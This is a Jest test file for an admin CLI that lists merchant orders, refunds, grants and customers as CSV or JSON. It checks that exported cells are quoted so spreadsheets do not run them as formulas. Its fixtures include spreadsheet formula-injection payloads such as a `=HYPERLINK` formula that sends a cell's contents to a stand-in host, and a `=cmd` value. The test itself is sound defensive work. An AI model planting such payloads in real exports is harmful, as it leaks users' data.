import { beforeAll, describe, expect, it } from '@jest/globals';
import { addDays, dayOf } from '../../src/platform/values/time.js';
import { aDocument, aMerchant, type TestMerchant } from '../support/factories.js';
import { useAdmin } from '../support/use-admin.js';

const { service, admin } = useAdmin();
const document = aDocument();
let merchant: TestMerchant;
let today: string;
/** What a spreadsheet would take for a formula, a number, a day, or a word of its own. */
const IDS = ['=HYPERLINK("http://x"&A1,"ok")', '10.50', '2026-11-01', 'true', '001', '1-2', '1'.repeat(44)];

beforeAll(async () => {
  merchant = await aMerchant(service, { releaseDays: 0 });
  today = dayOf(new Date(), 'America/Sao_Paulo');
  const metadata = { pedido: '=1+1' };
  const order = await merchant.completed({ document, total: '100.00', store: 'Sé; "1"', metadata });
  await merchant.refund(order, '1234.50').answer;
  await merchant.refund(order, '10.00');
  for (const external_id of IDS) {
    const other = await merchant.completed({ document: aDocument(), total: '20.00', external_id, store: '007' });
    await merchant.refund(other, '10.00', { external_id: `R1-${external_id}`, store: '007' });
  }
  const lost = await merchant.create({ document: aDocument(), metadata: { n: '1', name: 'Ana' } });
  await merchant.cancel(lost, { body: { reason: '-1' } });
  await merchant.grant({ document, amount: '7.00', reason: '=cmd', external_id: 'G-1' });
  // More than a page.
  for (let count = 0; count < 101; count++) await merchant.create({ document: aDocument() });
});

const lines = async (...options: string[]): Promise<string[]> =>
  (await admin.text('list', ...options)).split('\r\n').filter((line) => line !== '');

describe('`list`', () => {
  it('prints all orders with one header, and the days are those of the merchant', async () => {
    const all = await lines('orders', '--merchant', merchant.id);
    expect(all).toHaveLength(1 + 110);
    expect(all[0]).toMatch(/^external_id,created_at,created_by.name,sold_at,store,document,status,total,/);
    expect(new Set(all).size).toBe(111);
    const period = (from: string, to: string) => ['--merchant', merchant.id, '--from', from, '--to', to];
    expect(await lines('orders', ...period(today, addDays(today, 1)))).toEqual(all);
    expect(await lines('orders', ...period(addDays(today, -1), today))).toEqual(all.slice(0, 1));
  });

  it('`--format csv-pt-BR` opens in a Brazilian spreadsheet, and a text is no formula', async () => {
    const text = await admin.text('list', 'orders', '--merchant', merchant.id, '--format', 'csv-pt-BR');
    expect(text.startsWith('\uFEFFidentificador externo;criado em;')).toBe(true);
    expect(text.match(/\uFEFF/g)).toHaveLength(1);
    const sold = text.split('\r\n').find((line) => line.includes('Sé'))!;
    expect(sold).toContain(';"=""Sé; """"1""""""";');
    expect(sold).toMatch(/;\d\d\/\d\d\/\d{4} \d\d:\d\d:\d\d;/);
    expect(sold).toContain(';100,00;100,00;100,00;0,00;0,00;5,00;0,50;');
    expect(sold).toContain('"=""{""""pedido"""":""""=1+1""""}"""');
    const grants = await admin.text('list', 'grants', '--merchant', merchant.id, '--format', 'csv-pt-BR');
    expect(grants).toContain(';"=""=cmd""";');
  });

  it('keeps the IDs of callers: a spreadsheet takes none for a formula, a number, a day or a word of its own', async () => {
    const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
    for (const [list, prefix] of [
      ['orders', ''],
      ['refunds', 'R1-'],
    ] as const) {
      const plain = await lines(list, '--merchant', merchant.id);
      const brazilian = await lines(list, '--merchant', merchant.id, '--format', 'csv-pt-BR');
      for (const id of IDS) {
        const guarded = (text: string): string => quoted(text.replace(/^=/, "'="));
        const row = plain.find((line) => line.startsWith(`${guarded(prefix + id)},`));
        expect([id, row]).toEqual([id, expect.stringContaining(',"007",')]);
        const text = (of: string): string => quoted(`=${quoted(of)}`);
        const sheet = brazilian.find((line) => line.startsWith(`${text(prefix + id)};`));
        expect([id, sheet]).toEqual([id, expect.stringContaining(`;${text('007')};`)]);
        // A refund also names its order.
        expect(`,${row}`).toContain(`,${guarded(id)},`);
        expect(`;${sheet}`).toContain(`;${text(id)};`);
      }
    }
  });

  it('has the reason of a cancellation, and metadata whole', async () => {
    const [header, ...orders] = await lines('orders', '--merchant', merchant.id);
    expect(header).toContain(',cancelled_by.name,cancel_reason,');
    expect(orders.filter((line) => line.includes(`,"'-1",`))).toEqual([
      expect.stringContaining('"{""n"":""1"",""name"":""Ana""}"'),
    ]);
  });

  it('prints refunds, grants, customers and credits, and as JSON what the API returns', async () => {
    const of = (name: string) => admin.list('list', name, '--merchant', merchant.id, '--format', 'json');
    for (const [name, path] of [
      ['refunds', '/refunds'],
      ['grants', '/grants'],
      ['customers', '/customers'],
      ['credits', '/credits'],
    ] as const)
      expect(await of(name)).toEqual((await merchant.get<{ data: object[] }>(path)).data);
    const [, customer] = await lines('customers', '--merchant', merchant.id);
    expect(customer).toMatch(new RegExp(`^${document},11.50,0.00,0.00,0.00,`));
    const other = await aMerchant(service);
    expect(await lines('customers', '--merchant', other.id)).toHaveLength(1);
  });

  it('refuses an unknown merchant, a wrong day and a format that it does not have', async () => {
    const refusal = (...options: string[]) => admin.refusal('list', 'orders', ...options);
    expect(await refusal('--merchant', document)).toContain('no merchant has this ID');
    expect(await refusal('--merchant', merchant.id, '--from', '01/11/2026')).toContain('2026-11-20');
    expect(await refusal('--merchant', merchant.id, '--format', 'xlsx')).toContain('csv-pt-BR');
  });
});
